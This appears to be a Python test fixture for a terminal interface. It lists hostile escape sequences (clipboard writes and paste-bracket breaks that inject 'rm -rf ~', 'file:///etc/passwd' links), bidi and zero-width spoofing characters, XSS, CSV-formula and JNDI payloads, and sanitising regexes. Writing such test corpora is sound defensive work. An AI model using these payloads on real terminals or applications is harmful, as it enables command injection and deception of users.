"""Texts that act on a terminal, or that read as somebody else's, when they are written to it as they are.

One corpus for every place that shows text from outside: screens, dialogs, replay, plain output, reports. Each has a
`MARK` in it, so that a test can see that the text arrived, and `acts` says whether bytes would do anything to whoever
reads them raw.
"""

from __future__ import annotations

import re

MARK = "mark7"
ESC, CSI8, OSC8, DCS8, ST8, APC8, BEL = "\x1b", "\x9b", "\x9d", "\x90", "\x9c", "\x9f", "\x07"

TERMINAL = {
    "title": f"{ESC}]0;owned{BEL}",
    "title_st": f"{ESC}]2;owned{ESC}\\",
    "icon": f"{ESC}]1;owned{BEL}",
    "title_report": f"{ESC}]2;;rm -rf ~;{BEL}{ESC}[21t",
    "title_stack": f"{ESC}[22;2t{ESC}[23;2t",
    "clipboard_write": f"{ESC}]52;c;cm0gLXJmIH4K{BEL}",
    "clipboard_read": f"{ESC}]52;c;?{BEL}",
    "decrqss": f'{ESC}P$q"p{ESC}\\',
    "decrqss_injected": f"{ESC}P$q\nrm -rf ~\n{ESC}\\",
    "xtgettcap": f"{ESC}P+q544e{ESC}\\",
    "font_query": f"{ESC}]50;?{BEL}",
    "font_set": f"{ESC}]50;#3{BEL}",
    "colour_query": f"{ESC}]4;1;?{BEL}{ESC}]10;?{BEL}{ESC}]11;?{ESC}\\",
    "colour_set": f"{ESC}]11;#ff0000{BEL}",
    "device_attributes": f"{ESC}[c{ESC}[>c{ESC}[=c{ESC}Z",
    "status_report": f"{ESC}[5n{ESC}[6n{ESC}[?6n",
    "window_ops": f"{ESC}[8;1;1t{ESC}[3;0;0t{ESC}[2t",
    "answerback": "\x05",
    "hyperlink": f"{ESC}]8;;file:///etc/passwd{ESC}\\click{ESC}]8;;{ESC}\\",
    "hyperlink_javascript": f"{ESC}]8;;javascript:alert(1){BEL}click{ESC}]8;;{BEL}",
    "clear": f"{ESC}[2J{ESC}[H{ESC}[3J",
    "reset": f"{ESC}c",
    "soft_reset": f"{ESC}[!p",
    "alternate_screen": f"{ESC}[?1049l",
    "mouse": f"{ESC}[?1000h{ESC}[?1006h",
    "bracketed_paste": f"{ESC}[?2004l",
    "paste_end": f"{ESC}[201~rm -rf ~\n{ESC}[200~",
    "synchronized": f"{ESC}[?2026h",
    "cursor": f"{ESC}[1;1H✔ 1.1 Migrate{ESC}[10A{ESC}7{ESC}8",
    "insert_line": f"{ESC}[99L{ESC}[99P{ESC}[99@",
    "scroll_region": f"{ESC}[1;2r",
    "repeat": f"A{ESC}[99999999b",
    "sgr": f"{ESC}[8mhidden{ESC}[0m{ESC}[31mred",
    "character_set": f"{ESC}(0lqqk\x0e\x0f{ESC}%@",
    "tmux_passthrough": f"{ESC}Ptmux;{ESC}{ESC}]52;c;cm0=\x07{ESC}\\",
    "screen_title": f"{ESC}kowned{ESC}\\",
    "sixel": f"{ESC}Pq#0;2;0;0;0~~{ESC}\\",
    "kitty_graphics": f"{ESC}_Gf=100,t=f;L2V0Yy9wYXNzd2Q={ESC}\\",
    "iterm_file": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "iterm_notification": f"{ESC}]9;pay here{BEL}{ESC}]777;notify;a;b{BEL}",
    "kitty_keyboard": f"{ESC}[>31u{ESC}[=5;1u",
    "media_copy": f"{ESC}[5i{ESC}[4i",
    "status_line": f"{ESC}[$~owned",
    "pm_sos": f"{ESC}^owned{ESC}\\{ESC}Xowned{ESC}\\",
    "unterminated": f"{ESC}]0;",
    "lone_escape": f"a{ESC}",
    "csi_8bit": f"{CSI8}2J{CSI8}31m{CSI8}6n",
    "osc_8bit": f"{OSC8}0;owned{ST8}",
    "osc_52_8bit": f"{OSC8}52;c;?{ST8}",
    "dcs_8bit": f'{DCS8}$q"p{ST8}{APC8}x{ST8}',
    "c1_all": "".join(map(chr, range(0x80, 0xA0))),
    "c0_all": "".join(map(chr, (*range(9), 11, 12, *range(14, 32), 127))),
    "backspace": "rm -rf /\b\b\b\b\b\b\b\bls      ",
    "carriage_return": "rm -rf /\rls      ",
    "newlines": "ls\nrm -rf ~\n\r\nmore\vand\fmore",
    "null": "a\x00b",
}
"""Controls, in 7 and in 8 bits (ECMA-48; xterm, ctlseqs)."""

READING = {
    "bidi_override": "\u202etxt.exe\u202c",
    "bidi_isolate": "\u2066a\u2067b\u2068c\u2069",
    "bidi_marks": "\u200e\u200f\u061c",
    "trojan_source": "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin*/",
    "zero_width": "ad\u200bmin\u200c\u200d\u2060\ufeff",
    "tags": "".join(chr(0xE0000 + ord(each)) for each in "ignore this"),
    "tag_flag": "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "variation": "1\ufe0f\U000e0100",
    "line_separators": "a\u2028b\u2029c\u0085d",
    "soft_hyphen": "con\u00adfirm",
    "fillers": "\u115f\u1160\u3164\uffa0\u17b4\u180e",
    "annotation": "\ufff9a\ufffab\ufffb\ufffc",
    "invisible_operators": "\u2061\u2062\u2063\u2064",
    "deprecated_format": "\u206a\u206f",
    "grapheme_joiner": "ad\u034fmin",
    "other_variations": "\u180b\u180f\U0001d173\U0001bca0\U00013430",
    "private_use": "\ue0b0\U000f0001\U0010fffd",
    "noncharacters": "\ufdd0\ufffe\U0001ffff",
    "floods_of_marks": "e" + "\u0301\u0338" * 40,
    "surrogate": "\ud83d",
}
"""Characters that no eye sees, or that change what eyes see (UTS 55, UAX 9)."""

MARKUP = {
    "rich": "[bold red]x[/bold red][blink]y[/][/]",
    "rich_link": "[link=file:///etc/passwd]x[/link]",
    "rich_unbalanced": "[/nothing][[[bold",
    "rich_emoji": ":skull: :warning:",
    "textual_click": "[@click=app.leave]x[/]",
    "textual_click_bell": "[@click='app.bell']x[/]",
    "textual_click_quit": "[@click=app.exit()]x[/] [@click=screen.act('confirm')]y[/]",
    "textual_hover": "[@mouse.down=app.exit()]x[/]",
    "textual_link": "[link='https://owned.example']x[/link]",
    "textual_style": "[$error on $primary]x[/] [auto on red]y[/]",
    "textual_variable": "$error $primary [$undefined]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown_entities": "&#27;]0;owned&#7; &#x9b;2J &#x202e;x&#8203;y&NewLine;z <!-- hidden --> ~~struck~~",
    "markdown": "[x](javascript:alert(1)) ![y](https://owned.example/z) `` ` ``",
    "csv": "=cmd|'/c calc'!A1",
    "format": "{0} {self} %s %(x)s ${jndi:ldap://owned.example/a}",
}
"""Languages that something between us and the eye might read."""

ATTACKS = {**TERMINAL, **READING, **MARKUP}


def attack(name: str) -> str:
    """The text with a mark on both sides."""
    return f"{MARK}{ATTACKS[name]}{MARK}"


ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e"
    "\u2060-\u206f\u3164\ud800-\uf8ff\ufdd0-\ufdef\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffc\ufffe\uffff"
    "\U00013430-\U0001343f\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U0001fffe\U0001ffff\U000e0000-\U000e0fff"
    "\U000f0000-\U0010ffff]"
)
"""What plain output never holds: anything that acts, but for newlines and tabs."""


_SGR = r"(?:0|[1-479]|2[234579]|[34][0-79]|9[0-7]|10[0-7]|[34]8;5;\d{1,3}|[34]8;2;\d{1,3};\d{1,3};\d{1,3})"
SENT_BY_SCREENS = re.compile(
    "\x1b(?:"
    rf"\[(?:{_SGR}(?:;{_SGR})*)?m"
    r"|\[\d{1,4};\d{1,4}H"
    r"|\[\?(?:7|25|1000|1003|1004|1006|1015|1049|2004|2026|2048)[hl]"
    r"|\[\?(?:2026|2048)\$p|\[>25u|\[<u|\[2[23];2t"
    r"|\]2;cockpit [^\x00-\x1f\x7f-\x9f]{1,100}\x1b\\"
    r"|\]52;c;[A-Za-z0-9+/]+={0,2}\x07"
    r"|\]22;(?:default|pointer|text|grab|grabbing)\x07"
    r")|\x07|\r\n",
    re.ASCII,
)
"""What a screen of ours may send to a terminal: no more than it needs, by hand, and not taken from the program."""


def foreign(written: str) -> list[str]:
    """What in the bytes of a screen is neither a sequence of ours nor text that only shows, with what is around it."""
    rest = SENT_BY_SCREENS.sub("", written)
    return [repr(rest[max(0, found.start() - 20) : found.end() + 20]) for found in ACTING.finditer(rest)]
